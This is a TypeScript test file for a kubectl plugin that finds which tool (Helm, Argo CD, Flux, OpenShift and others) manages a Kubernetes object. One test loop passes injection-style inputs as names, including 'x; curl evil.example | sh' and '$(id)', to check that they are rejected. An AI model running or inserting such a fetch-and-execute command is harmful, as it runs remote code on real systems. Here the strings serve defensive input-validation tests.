import assert from "node:assert/strict";
import { describe, test } from "node:test";
import type { ObjectMeta } from "../../../src/core/objects.ts";
import {
	keeperOf,
	lastWriterOf,
	managerName,
	managerOf,
} from "../../../src/core/pull-secrets/managers.ts";

describe("who else keeps an object", () => {
	const owner = (kind: string, controller?: boolean) => ({
		apiVersion: "v1",
		kind,
		name: "x",
		uid: "1",
		...(controller !== undefined && { controller }),
	});
	const managedBy = "app.kubernetes.io/managed-by";
	const ROWS: [name: string, metadata: ObjectMeta, manager?: string][] = [
		["nobody", {}],
		["ourselves", { labels: { [managedBy]: "kubectl-meshreg" } }],
		["a managed-by label", { labels: { [managedBy]: "Helm" } }, "Helm"],
		[
			"Helm's annotations",
			{ annotations: { "meta.helm.sh/release-name": "x" } },
			"Helm",
		],
		[
			"Argo CD's tracking",
			{ annotations: { "argocd.argoproj.io/tracking-id": "x" } },
			"Argo CD",
		],
		[
			"its label, although ours is there",
			{
				labels: {
					[managedBy]: "kubectl-meshreg",
					"argocd.argoproj.io/instance": "x",
				},
			},
			"Argo CD",
		],
		["Flux", { labels: { "kustomize.toolkit.fluxcd.io/name": "x" } }, "Flux"],
		[
			"Flux's Helm controller",
			{ labels: { "helm.toolkit.fluxcd.io/name": "x" } },
			"Flux",
		],
		[
			"a tool's domain, which is the whole key",
			{ labels: { "meta.helm.sh": "x" } },
		],
		["a domain within another", { labels: { "x.meta.helm.sh/y": "x" } }],
		[
			"an owner",
			{ ownerReferences: [owner("Deployment"), owner("ExternalSecret", true)] },
			"ExternalSecret",
		],
		["an empty managed-by label", { labels: { [managedBy]: "" } }],
		[
			"a tool that applies what another's template labels",
			{
				labels: { [managedBy]: "Helm" },
				annotations: { "argocd.argoproj.io/tracking-id": "x" },
			},
			"Argo CD",
		],
		[
			"a label that Argo CD or a chart gives",
			{ labels: { "app.kubernetes.io/instance": "x" } },
			"Argo CD or Helm",
		],
		[
			"External Secrets, by its own annotation",
			{ annotations: { "reconcile.external-secrets.io/data-hash": "x" } },
			"External Secrets",
		],
		[
			"Sealed Secrets",
			{ annotations: { "sealedsecrets.bitnami.com/managed": "true" } },
			"Sealed Secrets",
		],
		[
			"Kubernetes Replicator",
			{ annotations: { "replicator.v1.mittwald.de/replicated-at": "x" } },
			"Kubernetes Replicator",
		],
		[
			"Reflector",
			{ annotations: { "reflector.v1.k8s.emberstack.com/reflects": "x" } },
			"Reflector",
		],
		[
			"ClusterSecret",
			{ annotations: { "clustersecret.io/version": "x" } },
			"ClusterSecret",
		],
		[
			"OpenShift, where it made the Secret of a service account",
			{ annotations: { "kubernetes.io/service-account.name": "x" } },
			"OpenShift",
		],
		[
			"OpenShift",
			{ annotations: { "openshift.io/internal-registry-auth-token": "x" } },
			"OpenShift",
		],
		["one that is no controller", { ownerReferences: [owner("Foo")] }, "Foo"],
	];
	for (const [name, metadata, manager] of ROWS)
		test(name, () => {
			const found = managerOf(metadata);
			assert.equal(found && managerName(found), manager);
		});
});

test("whose account OpenShift's Secret is, and which object the owner is", () => {
	assert.deepEqual(
		[
			managerOf({
				annotations: { "kubernetes.io/service-account.name": "builder" },
			}),
			managerOf({
				ownerReferences: [
					{ apiVersion: "v1", kind: "Foo", name: "foo", uid: "1" },
				],
			}),
		],
		[
			{ by: "openshift", account: "builder" },
			{ by: "owner", kind: "Foo", name: "foo" },
		],
	);
});

for (const text of [
	"x; curl evil.example | sh",
	"x\nFix: y",
	"a b",
	"$(id)",
	"-x",
	"x".repeat(300),
])
	test(`what is no name is not taken for one: ${JSON.stringify(text).slice(0, 40)}`, () => {
		const owner = { apiVersion: "v1", kind: "Foo", name: "foo", uid: "1" };
		const another = { by: "owner", kind: "another object", name: "" };
		assert.deepEqual(
			[
				managerOf({
					annotations: { "kubernetes.io/service-account.name": text },
				}),
				managerOf({ ownerReferences: [{ ...owner, name: text }] }),
				managerOf({ ownerReferences: [{ ...owner, kind: text }] }),
			],
			[{ by: "openshift", account: "" }, another, another],
		);
	});

describe("which field manager keeps an annotation", () => {
	const entry = (manager: string, annotation = "a/b") => ({
		manager,
		operation: "Update",
		fieldsV1: {
			"f:metadata": { "f:annotations": { ".": {}, [`f:${annotation}`]: {} } },
		},
	});
	for (const [name, managedFields, keeper] of [
		["none", undefined, undefined],
		["ourselves", [entry("kubectl-meshreg")], undefined],
		["another", [entry("argocd-controller")], "argocd-controller"],
		[
			"another beside us",
			[entry("kubectl-meshreg"), entry("kustomize-controller")],
			"kustomize-controller",
		],
		[
			"a pipeline's kubectl apply",
			[entry("kubectl-client-side-apply")],
			"kubectl-client-side-apply",
		],
		[
			"a person, once",
			["annotate", "create", "edit", "label", "patch", "replace"].map((verb) =>
				entry(`kubectl-${verb}`),
			),
			undefined,
		],
		[
			"one that is called nearly so",
			[entry("my-kubectl-edit")],
			"my-kubectl-edit",
		],
		["another such", [entry("kubectl-editor")], "kubectl-editor"],
		["another, of another annotation", [entry("argocd", "c/d")], undefined],
		["one that names itself nothing", [entry("")], undefined],
		["what is no entry", [null, 1, "x", {}, { manager: "x" }], undefined],
	] as const)
		test(name, () => {
			assert.equal(
				keeperOf(
					managedFields === undefined
						? {}
						: { managedFields: [...managedFields] },
					"a/b",
				),
				keeper,
			);
		});
});

test("which field manager wrote last, if not we ourselves", () => {
	for (const [entries, last] of [
		[[], undefined],
		[[["kubectl-meshreg", "05"]], undefined],
		[
			[
				["argocd", "04"],
				["kubectl-meshreg", "05"],
			],
			undefined,
		],
		[
			[
				["kubectl-meshreg", "05"],
				["argocd", "05"],
			],
			"argocd",
		],
		[
			[
				["a", "01"],
				["b", "03"],
				["c", "02"],
				["", "09"],
			],
			undefined,
		],
		[
			[
				["a", "01"],
				["b", "03"],
				["c", "02"],
			],
			"b",
		],
		[[["x".repeat(300), "01"]], `${"x".repeat(252)}…`],
		[[["a", undefined]], "a"],
	] as const) {
		const managedFields = entries.map(([manager, second]) => ({
			manager,
			...(second && { time: `2026-01-01T00:00:${second}Z` }),
		}));
		assert.equal(lastWriterOf({ managedFields }), last);
	}
	assert.equal(lastWriterOf({ managedFields: [null, "x", 1] }), undefined);
});
